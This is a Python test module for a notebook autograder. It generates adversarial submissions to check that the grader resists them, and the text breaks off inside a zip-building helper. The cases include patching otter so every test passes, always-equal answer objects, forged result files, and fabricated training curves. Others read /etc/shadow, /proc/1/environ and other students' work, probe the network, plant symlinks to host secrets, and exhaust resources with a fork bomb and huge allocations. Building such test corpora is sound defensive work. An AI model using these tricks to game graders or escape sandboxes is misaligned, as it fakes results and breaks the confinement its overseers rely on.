"""A corpus of bad and adversarial submissions, generated from the published blank template.

Each case is a function named for what the submission does; it returns the file a student
would hand in (a notebook as a dict, or raw bytes: a broken notebook, a zip) and is registered
with the status it must get and the score it honestly earns. Notebooks are the blank template
plus a few cells, so they run in seconds and never train for real (the forged-history cases
train one network for three epochs on 6,000 images).

Scores: a notebook that trains nothing can honestly earn only the points whose checks need no
training: the architectures (q1_model 3, q2_networks 2, q3_dropout 2): ``NO_TRAINING_CEILING``.
The scaled images (q1_scale) count only when a training of the grader's confirms them, and the
predictions (q1_predict) are those of the network the given code trains from the seed (the
grader's own training, when the model handed in is not that network). Every forging case below
does none of that work, so its honest score is 0; the cases that train (``trains``) earn what
their real training earns and lose exactly the readings they faked.

Cases that probe the sandbox print one line ``KIT-PROBE {json}`` (``probe_report``) with what
they found, so a test can read it from the executed notebook.
"""

from __future__ import annotations

import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from autograder.tools import samples

GRADED, ERROR, TIMEOUT, INVALID, EMPTY = "graded", "error", "timeout", "invalid", "empty"
NO_TRAINING_CEILING = {"q1_model": 3.0, "q2_networks": 2.0, "q3_dropout": 2.0}
PROBE_PREFIX = "KIT-PROBE "


@dataclass(frozen=True)
class Context:
    """What a case may need to know about the machine grading it."""

    slug: str
    #: A host file the grading must never change (a case plants a symlink to it).
    marker: Path
    #: A host file whose content must never reach the grade sheet, ledger or feedback.
    secret: Path
    #: Host paths a student might try to read (the kit checkout's solutions, tests, ...).
    forbidden: tuple[str, ...] = ()


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[Context], dict | bytes]
    suffix: str  # ".ipynb" or ".zip"
    status: str | tuple[str, ...]  # the status, or the statuses any of which is right
    score: float  # what it honestly earns (the kit must give exactly this)
    reason: str = ""  # a piece of the reason the grade sheet must give
    questions: dict[str, float] = field(default_factory=dict)  # per-question score, if not all 0
    probe: bool = False  # prints a KIT-PROBE line
    known_gap: str = ""  # the kit is known to fail this case (see the report); xfail in the tests
    trains: bool = False  # really trains Part 1 (may earn more than NO_TRAINING_CEILING)

    @property
    def doc(self) -> str:
        return (self.build.__doc__ or "").strip()

    def file_bytes(self, ctx: Context) -> bytes:
        made = self.build(ctx)
        return made if isinstance(made, bytes) else json.dumps(made, ensure_ascii=False).encode()


CASES: dict[str, Case] = {}


def case(status: str | tuple[str, ...], score: float = 0.0, *, suffix: str = ".ipynb", reason: str = "",
         questions: dict[str, float] | None = None, probe: bool = False, known_gap: str = "",
         trains: bool = False):
    def register(fn: Callable[[Context], dict | bytes]) -> Callable[[Context], dict | bytes]:
        name = fn.__name__.replace("_", "-")
        CASES[name] = Case(name, fn, suffix, status, score, reason, dict(questions or {}), probe, known_gap,
                           trains)
        return fn
    return register


# ------------------------------------------------------------------------ notebook helpers


def code(src: str) -> dict:
    return {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": src}


def _src(cell: dict) -> str:
    return "".join(cell.get("source", ""))


def blank_with(slug: str, early: tuple[str, ...] = (), late: tuple[str, ...] = (),
               fill: dict[str, str] | None = None) -> dict:
    """The blank template; ``early`` cells right after otter's setup cell, ``late`` ones before the
    final export cell; ``fill`` replaces the cell whose source starts with a key by the value."""
    nb = samples.blank(slug)
    cells = nb["cells"]
    for start, new in (fill or {}).items():
        hits = [c for c in cells if c["cell_type"] == "code" and _src(c).lstrip().startswith(start)]
        if len(hits) != 1:
            raise ValueError(f"expected one code cell starting with {start!r}, found {len(hits)}")
        hits[0]["source"] = new
    last = max(i for i, c in enumerate(cells) if "grader.export(" in _src(c))
    cells[last:last] = [code(s) for s in late]
    cells[1:1] = [code(s) for s in early]
    return nb


def probe_report(expr: str) -> str:
    """Source printing ``KIT-PROBE <json of expr>``."""
    return f"import json as _j\nprint({PROBE_PREFIX!r} + _j.dumps({expr}, default=str))\n"


def probe_results(executed: dict) -> list[dict]:
    """Every KIT-PROBE record printed in an executed notebook."""
    found = []
    for cell in executed.get("cells", []):
        for out in cell.get("outputs", []):
            text = out.get("text", "")
            text = "".join(text) if isinstance(text, list) else str(text)
            for line in text.splitlines():
                if line.startswith(PROBE_PREFIX):
                    found.append(json.loads(line[len(PROBE_PREFIX):]))
    return found


#: Honest work that needs no training (see the module docstring).
SCALE = "train_images = train_images / 255.0\ntest_images = test_images / 255.0\n"
MODEL = """model = keras.Sequential([
    keras.Input(shape=(28, 28)),
    keras.layers.Flatten(),
    keras.layers.Dense(128, activation='relu'),
    keras.layers.Dense(10, activation='softmax'),
])
"""
PREDICT = """predictions = model.predict(test_images, verbose=0, batch_size=1000)
predicted_label_0 = int(np.argmax(predictions[0]))
"""
NETWORK = """def build_network(units):
    return keras.Sequential([
        keras.Input(shape=(28, 28)),
        keras.layers.Flatten(),
        keras.layers.Dense(units, activation='relu'),
        keras.layers.Dense(units, activation='relu'),
        keras.layers.Dense(10, activation='softmax'),
    ])
"""
DROPOUT = """def build_dropout_network(units, rate=DROPOUT_RATE):
    return keras.Sequential([
        keras.Input(shape=(28, 28)),
        keras.layers.Flatten(),
        keras.layers.Dense(units, activation='relu'),
        keras.layers.Dropout(rate),
        keras.layers.Dense(units, activation='relu'),
        keras.layers.Dropout(rate),
        keras.layers.Dense(10, activation='softmax'),
    ])
"""
#: Answers typed in without looking at any curve, in the right form.
HARD_CODED_ANSWERS = """good_epoch_bigger = 8
val_acc_bigger = 0.86
overfitting_bigger = True
overfitting_smaller = False
most_overfit = 'bigger'
more_units_overfit_more = True
dropout_shrinks_gap = True
best_technique = 'dropout'
"""
#: Histories made up to match HARD_CODED_ANSWERS (textbook curves, no training behind them).
MADE_UP_HISTORIES = """import pandas as pd
def _made_up(peak_epoch, peak, final_gap, n=20):
    val = [peak - 0.02 * abs(e - peak_epoch) / n for e in range(1, n + 1)]
    acc = [min(0.999, v + final_gap * e / n) for e, v in enumerate(val, 1)]
    frame = pd.DataFrame({'accuracy': acc, 'loss': [1 - a for a in acc],
                          'val_accuracy': val, 'val_loss': [1 - v for v in val]})
    frame.index = pd.RangeIndex(1, n + 1, name='epoch')
    return frame
hist_smaller, hist_baseline = _made_up(20, 0.80, 0.0), _made_up(15, 0.84, 0.03)
hist_bigger, hist_dropout = _made_up(8, 0.86, 0.12), _made_up(12, 0.87, 0.01)
hist_l2, hist_augment = _made_up(15, 0.83, 0.04), _made_up(18, 0.85, 0.03)
"""


# ------------------------------------------------------------------------ cheating the checker

_PASS_ALL_RUN = """import otter.test_files.exception_test as _et
from otter.test_files.abstract_test import TestCaseResult as _R

def _always_passes(self, global_environment):
    self.test_case_results = [_R(test_case=tc, message='✅ Test case passed', passed=True)
                              for tc in self.test_cases]

_et.ExceptionTestFile.run = _always_passes
"""


def forged_score_notebook(slug: str) -> dict:
    """The forged-score demonstration: every otter test passes in the kernel, no work done.

    Under plain ``otter run`` (tests in the student's kernel, results read back from it) this
    scores full marks; with the kit it scores 0.
    """
    return blank_with(slug, early=(_PASS_ALL_RUN,))


@case(GRADED)
def patch_otter_testfile_run(ctx: Context) -> dict:
    """Replaces otter's ExceptionTestFile.run so every test case is recorded as passed."""
    return forged_score_notebook(ctx.slug)


@case(GRADED)
def patch_otter_test_case_call(ctx: Context) -> dict:
    """Replaces otter's test_case.call_func by a no-op and Notebook.check by one that passes."""
    return blank_with(ctx.slug, early=("""import otter
from otter.test_files.exception_test import test_case
test_case.call_func = lambda self, env: None
_real_check = otter.Notebook.check
def _check(self, question, *args, **kwargs):
    result = _real_check(self, question, *args, **kwargs)
    for r in getattr(result, 'test_case_results', []):
        r.passed = True
    return result
otter.Notebook.check = _check
""",))


@case(GRADED)
def patch_kit_checks(ctx: Context) -> dict:
    """Replaces the kit's check functions (readings, architecture, accuracy, forms) by no-ops."""
    return blank_with(ctx.slug, early=("""import autograder.readings, autograder.checks, autograder.forms
_ok = lambda *a, **k: None
for _mod in (autograder.readings, autograder.checks, autograder.forms):
    for _name in dir(_mod):
        if _name.startswith('check'):
            setattr(_mod, _name, _ok)
import sys
sys.path.insert(0, '.')
try:
    import kit_checks
    for _name in dir(kit_checks):
        if _name.startswith('check'):
            setattr(kit_checks, _name, _ok)
except ImportError:
    pass
""",), late=(HARD_CODED_ANSWERS,))


_ALWAYS_EQUAL = """class AlwaysEqual:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __hash__(self): return 0
    def __bool__(self): return True
    def __float__(self): return 0.9
    def __int__(self): return 8
    def __index__(self): return 8

class EqualStr(str):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = str.__hash__
"""


@case(GRADED)
def always_equal_answers(ctx: Context) -> dict:
    """Answers are objects whose __eq__ (and every comparison) is always true."""
    return blank_with(ctx.slug, late=(_ALWAYS_EQUAL + """_x = AlwaysEqual()
train_images = test_images = model = history = test_acc = predictions = predicted_label_0 = _x
good_epoch_bigger = val_acc_bigger = overfitting_bigger = overfitting_smaller = _x
more_units_overfit_more = dropout_shrinks_gap = _x
net_smaller = net_baseline = net_bigger = net_dropout = _x
hist_smaller = hist_baseline = hist_bigger = hist_dropout = hist_l2 = hist_augment = _x
most_overfit = EqualStr('bigger')
best_technique = EqualStr('dropout')
""",))


@case(GRADED)
def showtraceback_hidden(ctx: Context) -> dict:
    """Overrides IPython's showtraceback and sys.excepthook so failures print nothing."""
    return blank_with(ctx.slug, early=("""import sys
from IPython.core.interactiveshell import InteractiveShell
InteractiveShell.showtraceback = lambda self, *a, **k: None
InteractiveShell.showsyntaxerror = lambda self, *a, **k: None
sys.excepthook = lambda *a: None
get_ipython().showtraceback = lambda *a, **k: None
""",), late=(HARD_CODED_ANSWERS,))


@case(GRADED)
def forged_results_files(ctx: Context) -> dict:
    """Writes a full-marks results.json, a .OTTER_LOG and (after every cell) otter's results pickle."""
    return blank_with(ctx.slug, early=("""import glob, json, os, pickle, tempfile
_full = {'score': 24, 'tests': [{'name': q, 'score': 2, 'max_score': 2, 'output': 'passed'}
                                for q in ['q1_model', 'q2a_epoch']]}
for _p in ('../results/results.json', 'results.json', '../results/kernel_results.json'):
    try:
        with open(_p, 'w') as _f:
            json.dump(_full, _f)
    except OSError:
        pass
with open('.OTTER_LOG', 'wb') as _f:
    pickle.dump({'forged': True}, _f)

def _forge_pickles(*args):
    from otter.test_files import GradingResults
    for _pkl in glob.glob(os.path.join(tempfile.gettempdir(), '*.pkl')):
        try:
            with open(_pkl, 'rb') as _f:
                _res = pickle.load(_f)
        except Exception:
            continue
        if isinstance(_res, GradingResults):
            for _t in _res.results.values():
                for _r in _t.test_case_results:
                    _r.passed = True
            with open(_pkl, 'wb') as _f:
                pickle.dump(_res, _f)

get_ipython().events.register('post_run_cell', _forge_pickles)
""",))


_FORGE_ENV = """import json, os
_forged = {
    'good_epoch_bigger': {'kind': 'int', 'value': 8, 'type': 'builtins.int'},
    'val_acc_bigger': {'kind': 'float', 'value': 0.86, 'type': 'builtins.float'},
    'overfitting_bigger': {'kind': 'bool', 'value': True, 'type': 'builtins.bool'},
    'overfitting_smaller': {'kind': 'bool', 'value': False, 'type': 'builtins.bool'},
    'most_overfit': {'kind': 'str', 'value': 'bigger', 'type': 'builtins.str'},
    'more_units_overfit_more': {'kind': 'bool', 'value': True, 'type': 'builtins.bool'},
    'dropout_shrinks_gap': {'kind': 'bool', 'value': True, 'type': 'builtins.bool'},
    'best_technique': {'kind': 'str', 'value': 'dropout', 'type': 'builtins.str'},
    'test_acc': {'kind': 'float', 'value': 0.99, 'type': 'builtins.float'},
    'EPOCHS': {'kind': 'int', 'value': 20, 'type': 'builtins.int'},
    'train_images': {'kind': 'array_summary', 'shape': [60000, 28, 28], 'dtype': 'float64',
                     'min': 0.0, 'max': 1.0, 'type': 'numpy.ndarray'},
    'test_images': {'kind': 'array_summary', 'shape': [10000, 28, 28], 'dtype': 'float64',
                    'min': 0.0, 'max': 1.0, 'type': 'numpy.ndarray'},
    'history': {'kind': 'history', 'value': {'accuracy': [0.9] * 5, 'loss': [0.1] * 5},
                'type': 'keras.src.callbacks.history.History'},
}
for _name, _h in [('hist_smaller', hist_smaller), ('hist_baseline', hist_baseline),
                  ('hist_bigger', hist_bigger), ('hist_dropout', hist_dropout),
                  ('hist_l2', hist_l2), ('hist_augment', hist_augment)]:
    _forged[_name] = {'kind': 'frame', 'index': [int(i) for i in _h.index],
                      'value': {c: [float(x) for x in _h[c]] for c in _h.columns},
                      'type': 'pandas.DataFrame'}

def _forge_env(*args):
    os.makedirs('kit_artifacts', exist_ok=True)
    with open('kit_artifacts/env.json', 'w') as _f:
        json.dump(_forged, _f)

get_ipython().events.register('post_run_cell', _forge_env)
"""


@case(GRADED)
def forged_artifacts_env_json(ctx: Context) -> dict:
    """Rewrites kit_artifacts/env.json after every cell (so after the kit's export cell too):
    perfect answers, made-up histories and summaries, no trained model behind any of them."""
    return blank_with(ctx.slug, late=(MADE_UP_HISTORIES + _FORGE_ENV,))


@case(GRADED)
def made_up_histories_without_networks(ctx: Context) -> dict:
    """Histories typed in as tables (no network trained) and answers read off them."""
    return blank_with(ctx.slug, late=(MADE_UP_HISTORIES, HARD_CODED_ANSWERS))


# ------------------------------------------------------------------------ forged histories


_TRAIN_BIGGER = NETWORK + """
net_smaller = build_network(UNITS_SMALLER)
net_baseline = build_network(UNITS_BASELINE)
net_bigger, hist_bigger = train(build_network(UNITS_BIGGER), "bigger", epochs=3)
"""
#: The given cell of Part 2 that trains the three networks (it starts so in every handout).
PART2_CELL = "net_smaller, hist_smaller = train("

_SCALED_AND_TRAINED = {"train_images = ...": SCALE, PART2_CELL: _TRAIN_BIGGER}


@case(GRADED, 3.0, questions={"q2_networks": 2.0, "q2c_overfitting": 1.0})
def forged_history_last_epoch(ctx: Context) -> dict:
    """Trains Bigger for 3 epochs, then edits hist_bigger (last epoch too) to fit made-up answers.

    The architectures are right (q2_networks: 2 points, honest). Every reading is graded against
    the grader's own 15-epoch training of Bigger: the made-up epoch and accuracy fail;
    'Bigger overfits' happens to be true of it (the gate makes sure Bigger overfits on the
    version's seed: 1 point, the one test of q2c that needs no other answer). The scaling is
    confirmed by no training of the grader's (q1_scale 0).
    """
    return blank_with(ctx.slug, fill=_SCALED_AND_TRAINED,
                      late=("""hist_bigger = hist_bigger.copy()
hist_bigger['val_accuracy'] = [0.80, 0.97, 0.90]
hist_bigger['accuracy'] = [0.80, 0.90, 0.99]
good_epoch_bigger = 2
val_acc_bigger = 0.97
overfitting_bigger = True
""",))


@case(GRADED, 2.0, questions={"q2_networks": 2.0})
def forged_history_middle_epoch(ctx: Context) -> dict:
    """Trains Bigger for 3 epochs, then raises epoch 2's validation accuracy and answers 'epoch 2'.

    The last epoch is left as trained (a check of the last epoch alone could not see the edit);
    the readings are graded against the grader's own training, where epoch 2 is not the best.
    """
    return blank_with(ctx.slug, fill=_SCALED_AND_TRAINED,
                      late=("""hist_bigger = hist_bigger.copy()
_last = float(hist_bigger['val_accuracy'].iloc[-1])
hist_bigger.loc[2, 'val_accuracy'] = min(0.999, _last + 0.08)
good_epoch_bigger = 2
val_acc_bigger = float(hist_bigger.loc[2, 'val_accuracy'])
""",))


#: ``train()`` rewritten to fit one epoch and return made-up rows around the real last epoch:
#: curves that fall to the end (no minimum before the end, no overfitting anywhere).
_FABRICATED_TRAIN = """def train(model, name, epochs=EPOCHS):
    keras.utils.set_random_seed(NETWORK_SEEDS[name])
    model = keras.models.clone_model(model)
    model.compile(optimizer='adam', loss='sparse_categorical_crossentropy', metrics=['accuracy'])
    real = model.fit(x_train, y_train, epochs=1, batch_size=BATCH_SIZE,
                     validation_data=(x_val, y_val), verbose=0).history
    last = {k: v[-1] for k, v in real.items()}
    frame = pd.DataFrame({
        'accuracy': [last['accuracy'] - 0.004 * (epochs - e) for e in range(1, epochs + 1)],
        'loss': [last['loss'] + 0.02 * (epochs - e) for e in range(1, epochs + 1)],
        'val_accuracy': [last['val_accuracy'] - 0.004 * (epochs - e) for e in range(1, epochs + 1)],
        'val_loss': [last['val_loss'] + 0.02 * (epochs - e) for e in range(1, epochs + 1)]})
    frame.index = pd.RangeIndex(1, epochs + 1, name='epoch')
    keep_record(name, frame)
    return model, frame
"""
#: The readings opposite to what the gate makes sure of on the version's seed (Bigger overfits
#: most, Smaller does not, dropout shrinks the gap); the epoch and accuracy come from the made-up
#: curves (their last epoch).
_OPPOSITE_READINGS = {"overfitting_bigger = True  #": "overfitting_bigger = False  #",
                      "overfitting_smaller = False  #": "overfitting_smaller = True  #",
                      'most_overfit = "bigger"  #': 'most_overfit = "smaller"  #',
                      "more_units_overfit_more = True  #": "more_units_overfit_more = False  #",
                      'dropout_shrinks_gap = bool(gaps["dropout"] < gap_bigger)':
                          "dropout_shrinks_gap = False"}


@case(GRADED, 14.0, trains=True, questions={
    "q1_scale": 1.0, "q1_model": 3.0, "q1_train": 1.0, "q1_accuracy": 3.0, "q1_predict": 2.0,
    "q2_networks": 2.0, "q3_dropout": 2.0})
def fabricated_curves_around_real_last_epoch(ctx: Context) -> dict:
    """The whole solution, but ``train()`` fits one epoch and returns 15 made-up rows ending at the
    real last epoch, and every reading is taken from the made-up curves or set against the lesson.

    Part 1 and the architectures are honest work (14 points, kept); all 10 points of readings are
    lost: they are graded against the grader's own 15-epoch trainings, and the row is flagged.
    """
    nb = samples.solution(ctx.slug)
    given = [c for c in nb["cells"] if c["cell_type"] == "code" and "def train(model, name" in _src(c)]
    if len(given) != 1:
        raise ValueError("the solution has no single cell defining train()")
    src = _src(given[0])
    start = src.index("def train(model, name")
    end = src.index("\ndef ", start + 1)
    given[0]["source"] = src[:start] + _FABRICATED_TRAIN + src[end:]
    for old, new in _OPPOSITE_READINGS.items():
        samples.replace_once(nb, old, new)
    samples.replace_once(nb, "best_technique = min(gaps, key=gaps.get)",
                         f"best_technique = {_worst_technique(ctx.slug)!r}")
    return nb


@case(GRADED, 22.0, trains=True, questions={
    "q1_accuracy": 3.0, "q1_model": 3.0, "q1_predict": 2.0, "q1_scale": 1.0, "q1_train": 1.0,
    "q2_networks": 2.0, "q2a_epoch": 2.0, "q2c_overfitting": 2.0, "q2d_compare": 2.0, "q3_dropout": 2.0,
    "q3_readings": 2.0})
def served_history_edited_after_the_fit(ctx: Context) -> dict:
    """The whole solution, its fits served from the cache of verified trainings (the corpus is
    graded after ``prepare``), then Bigger's validation accuracy raised by 0.05 after the fit and
    the reported accuracy read from the edited curve.

    A served history is data in the student's kernel like any other: the reading is graded against
    the curve the notebook recorded (the grader's own training agrees with it), so q2b's 2 points
    are lost, and the row is flagged (the kernel's Bigger is not the grader's). 22 points.
    """
    nb = samples.solution(ctx.slug)
    cells = nb["cells"]
    last = max(i for i, c in enumerate(cells) if "grader.export(" in _src(c))
    cells[last:last] = [code("""hist_bigger = hist_bigger.copy()
hist_bigger['val_accuracy'] = hist_bigger['val_accuracy'] + 0.05
val_acc_bigger = float(hist_bigger['val_accuracy'][good_epoch_bigger])
""")]
    return nb


def _worst_technique(slug: str) -> str:
    """The technique whose final gap is the largest on the default version's seed (the gate's
    record), so far from the smallest that 'it eased overfitting most' cannot be accepted."""
    from autograder import catalog

    release = catalog.published(slug)[catalog.default_version(slug)]
    seed = str(release["params"]["seed"])
    gaps = {t: release["gate"]["solution"][seed][f"{n}_gap"]
            for t, n in (("dropout", "dropout"), ("l2", "l2"), ("augmentation", "augment"))}
    worst = max(gaps, key=gaps.get)
    if gaps[worst] - min(gaps.values()) <= release["params"]["choice_tol"]:
        raise ValueError(f"no technique is clearly the worst on the gate's record: {gaps}")
    return worst


@case(GRADED, 3.0, trains=True, questions={"q1_model": 3.0})
def part1_trained_fewer_epochs_than_it_reports(ctx: Context) -> dict:
    """Part 1 trained for 2 epochs, its history padded to the 5 the question asks for, the
    accuracy and predictions of that network reported. The weights are not those the given code
    trains from the seed: the history is not believed and the accuracy questions are graded on the
    grader's own network (the reported accuracy and predictions are not its): only the
    architecture counts."""
    return blank_with(ctx.slug, fill={
        "train_images = ...": SCALE,
        "model = keras.Sequential(": MODEL,
        "history = ...": ("history = model.fit(train_images, train_labels, epochs=2, verbose=0)\n"
                          "history.history = {k: v + [v[-1]] * 3 for k, v in history.history.items()}\n"),
        "test_loss, test_acc = ...": ("test_loss, test_acc = model.evaluate(test_images, test_labels, "
                                      "verbose=0)\n"),
        "predictions = ...": PREDICT,
    })


# ------------------------------------------------------------------------ reaching outside


@case(GRADED, probe=True)
def read_solutions_and_hidden_tests(ctx: Context) -> dict:
    """Looks for the solution, the hidden tests and the kit's private folder, and reads them."""
    paths = list(ctx.forbidden) + [
        "../../*.kit", "../../*.kit/tests/*.py", "../../*.kit/source/tests/*.py", "../../../*",
        "../source/tests/*.py", "/autograder/source/tests/*.py", "/work/main/solutions",
        "/work/main/solutions/*/*", "/work/main/assignments/*", "/work/main/tests/*",
        "/work/shared/*", "/root/*", "/etc/shadow", "/proc/1/environ", "/proc/1/root/work/main/*",
    ]
    return blank_with(ctx.slug, early=(f"""import glob, os, re
_found = {{}}
for _pat in {paths!r}:
    for _p in glob.glob(_pat):
        try:
            if os.path.isdir(_p):
                _found[_p] = sorted(os.listdir(_p))[:20]
            else:
                with open(_p, 'rb') as _f:
                    _found[_p] = _f.read(200).decode('utf-8', 'replace')
        except OSError as _e:
            pass
# hidden test cases: the public copies must not contain any
_hidden = {{}}
for _p in glob.glob('../source/tests/*.py') + glob.glob('tests/*.py'):
    with open(_p, encoding='utf-8') as _f:
        _t = _f.read()
    if 'hidden=True' in _t or 'check_epoch' in _t or 'check_architecture' in _t:
        _hidden[_p] = True
""" + probe_report("{'found': _found, 'hidden': _hidden}"),))


@case(GRADED, probe=True)
def read_other_submissions(ctx: Context) -> dict:
    """Looks for the other students' notebooks, the staging folder, the ledger and the grade sheet."""
    return blank_with(ctx.slug, early=("""import glob, os
_found = []
for _pat in ['../../*/submission/*.ipynb', '../../../staging/*', '../../../*.sqlite*', '../../../grades.csv',
             '../../../feedback/*', '/tmp/*/*.ipynb', '/work/main/*/*/*.ipynb', '/proc/*/cwd',
             *""" + repr(list(ctx.forbidden)) + """]:
    for _p in glob.glob(_pat, recursive=True):
        if os.path.abspath(_p) == os.path.abspath('submission.ipynb'):
            continue  # its own
        try:
            os.stat(_p)
            _found.append(_p)
        except OSError:
            pass
_others = [p for p in _found if not p.startswith('/proc/')]
_procs = sorted(int(p) for p in os.listdir('/proc') if p.isdigit())
""" + probe_report("{'found': _others, 'pids': _procs}"),))


@case(GRADED, probe=True)
def open_network_connections(ctx: Context) -> dict:
    """Tries DNS, outside TCP (to the internet and the grading host) and a download with urllib."""
    return blank_with(ctx.slug, early=("""import socket, urllib.request
_results = {}
for _host, _port in [('1.1.1.1', 53), ('8.8.8.8', 443), ('10.0.2.2', 22), ('172.17.0.1', 22)]:
    try:
        _s = socket.create_connection((_host, _port), timeout=3)
        _s.close()
        _results[f'{_host}:{_port}'] = 'connected'
    except OSError as _e:
        _results[f'{_host}:{_port}'] = type(_e).__name__
try:
    socket.getaddrinfo('pypi.org', 443)
    _results['dns'] = 'resolved'
except OSError as _e:
    _results['dns'] = type(_e).__name__
try:
    urllib.request.urlopen('https://pypi.org/simple/', timeout=3)
    _results['urllib'] = 'downloaded'
except Exception as _e:
    _results['urllib'] = type(_e).__name__
_results['interfaces'] = [n for _, n in socket.if_nameindex()]
""" + probe_report("_results"),))


@case(GRADED, probe=True)
def host_symlinks_planted(ctx: Context) -> dict:
    """Replaces files the grader reads or writes after the run by symlinks to host files.

    results/kernel_results.json -> a host file (the grader copies otter's results there),
    grading.log and a curve figure -> a host secret (the grader keeps the log and the figures).
    """
    return blank_with(ctx.slug, early=(f"""import os
_planted = {{}}
for _link, _target in [('../results/kernel_results.json', {str(ctx.marker)!r}),
                       ('../grading.log', {str(ctx.secret)!r}),
                       ('curves_part2_networks.png', {str(ctx.secret)!r})]:
    try:
        if os.path.lexists(_link):
            os.unlink(_link)
        os.symlink(_target, _link)
        _planted[_link] = True
    except OSError as _e:
        _planted[_link] = repr(_e)
""" + probe_report("_planted"),))


@case(GRADED)
def artifacts_folder_symlink(ctx: Context) -> dict:
    """Makes kit_artifacts a symlink to a path that does not exist (the grader resolves it)."""
    return blank_with(ctx.slug, early=("""import os
os.symlink('/nonexistent/kit-artifacts', 'kit_artifacts')
""",))


# ------------------------------------------------------------------------ resource exhaustion


@case((GRADED, ERROR))
def fork_bomb(ctx: Context) -> dict:
    """Every process forks until forking fails; then each child waits a little and exits."""
    return blank_with(ctx.slug, early=("""import os, time
_main = os.getpid()
_refused = False
for _ in range(24):  # 2**24 processes if nothing stops it
    try:
        os.fork()
    except OSError:
        _refused = True
        break
if os.getpid() != _main:
    time.sleep(5)
    os._exit(0)
while True:
    try:
        os.wait()
    except ChildProcessError:
        break
""" + probe_report("{'refused': _refused}"),))


@case((GRADED, ERROR))
def allocate_20_gb(ctx: Context) -> dict:
    """Allocates 20 GB at once, then in touched 256 MB pieces."""
    return blank_with(ctx.slug, early=("""_outcome = {}
try:
    _big = bytearray(20 * 2**30)
    _outcome['at_once'] = 'allocated'
except MemoryError:
    _outcome['at_once'] = 'MemoryError'
_chunks = []
try:
    for _ in range(80):
        _chunks.append(b'\\x01' * (256 * 2**20))
    _outcome['pieces'] = 'allocated'
except MemoryError:
    _outcome['pieces'] = f'MemoryError after {len(_chunks) * 256} MB'
del _chunks
""" + probe_report("_outcome"),))


@case(GRADED, probe=True)
def write_5_gb_file(ctx: Context) -> dict:
    """Writes a 5 GB file in its folder and another in /tmp."""
    return blank_with(ctx.slug, early=("""import os
_outcome = {}
_block = b'\\0' * (64 * 2**20)
for _path in ('big.bin', '/tmp/big.bin'):
    _written = 0
    try:
        with open(_path, 'wb') as _f:
            while _written < 5 * 2**30:
                _f.write(_block)
                _written += len(_block)
        _outcome[_path] = 'wrote 5 GB'
    except OSError as _e:
        _outcome[_path] = f'{type(_e).__name__} after {_written >> 20} MB'
    try:
        os.remove(_path)
    except OSError:
        pass
""" + probe_report("_outcome"),))


@case((ERROR, GRADED))
def print_1_gb(ctx: Context) -> dict:
    """Prints 1 GB of text."""
    return blank_with(ctx.slug, early=("""_line = 'x' * (2**20 - 1)
for _ in range(1024):
    print(_line)
""",))


@case((ERROR, GRADED))
def os_exit_in_the_middle(ctx: Context) -> dict:
    """Ends its kernel with os._exit(0) after the first answers."""
    return blank_with(ctx.slug, late=(HARD_CODED_ANSWERS,), fill={
        "grader.check(\"q1_scale\")": "import os\nos._exit(0)\n"})


@case(TIMEOUT, reason="longer than")
def sleeps_forever(ctx: Context) -> dict:
    """A cell that never ends (sleeping, so it holds a worker but not the cores)."""
    return blank_with(ctx.slug, early=("import time\nwhile True:\n    time.sleep(1)\n",))


# ------------------------------------------------------------------------ the notebook's shape


@case(GRADED, sum(NO_TRAINING_CEILING.values()), questions=NO_TRAINING_CEILING)
def test_cells_deleted_or_edited(ctx: Context) -> dict:
    """No grader.check cell left (deleted or edited to print 'passed'), answers hard-coded, the
    honest work that needs no training done: it earns exactly the points that need no training."""
    nb = blank_with(ctx.slug, late=(HARD_CODED_ANSWERS,), fill={
        "train_images = ...": SCALE,
        "model = keras.Sequential(": MODEL + "model.summary()\n",
        "predictions = ...": PREDICT,
        "def build_network(units)": NETWORK,
        PART2_CELL: (
            "net_smaller = build_network(UNITS_SMALLER)\n"
            "net_baseline = build_network(UNITS_BASELINE)\n"
            "net_bigger = build_network(UNITS_BIGGER)\n"),
        "DROPOUT_RATE = 0.5": "DROPOUT_RATE = 0.5\n\n\n" + DROPOUT,
        "L2_FACTOR = 0.01": "net_dropout = build_dropout_network(UNITS_BIGGER)\n",
    })
    cells = []
    for i, c in enumerate(nb["cells"]):
        if c["cell_type"] == "code" and _src(c).lstrip().startswith("grader.check("):
            if i % 2:
                continue
            c["source"] = "print('✅ all tests passed')\n"
        cells.append(c)
    nb["cells"] = cells
    return nb


@case(GRADED)
def renamed_answer_variables(ctx: Context) -> dict:
    """Answers under other names (good_epoch, val_acc, overfitting, ...)."""
    return blank_with(ctx.slug, late=("""good_epoch = 8
val_acc = 0.86
overfitting = True
overfitting_small = False
most_overfitting = 'bigger'
best = 'dropout'
""",))


@case(INVALID, reason="notebook")
def nbformat_3(ctx: Context) -> dict:
    """A notebook in the old format 3 (worksheets instead of cells)."""
    nb = samples.blank(ctx.slug)
    cells = [{"cell_type": "code", "language": "python", "input": _src(c), "outputs": [],
              "collapsed": False, "metadata": {}}
             if c["cell_type"] == "code" else {"cell_type": "markdown", "source": _src(c), "metadata": {}}
             for c in nb["cells"]]
    return {"metadata": {"name": ctx.slug}, "nbformat": 3, "nbformat_minor": 0,
            "worksheets": [{"cells": cells, "metadata": {}}]}


@case(INVALID, reason="UTF-8")
def not_utf8_cp932(ctx: Context) -> bytes:
    """The notebook saved as Shift-JIS (cp932), as an old Windows editor might."""
    return json.dumps(samples.blank(ctx.slug), ensure_ascii=False).encode("cp932", errors="replace")


@case(INVALID, reason="UTF-8")
def not_utf8_utf16(ctx: Context) -> bytes:
    """The notebook saved as UTF-16 with a byte-order mark."""
    return json.dumps(samples.blank(ctx.slug), ensure_ascii=False).encode("utf-16")


# ------------------------------------------------------------------------ hostile zips


def _raw_zip(name: str, deflated: bytes, crc: int, size: int, *, external_attr: int = 0) -> bytes:
    """A one-member zip written by hand, so the header can say what it likes."""
    fname = name.encode()
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(deflated), size,
                        len(fname), 0) + fname
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x0314, 20, 0, 8, 0, 0x21, crc, len(deflated),
                          size, len(fname), 0, 0, 0, 0, external_attr, 0) + fname
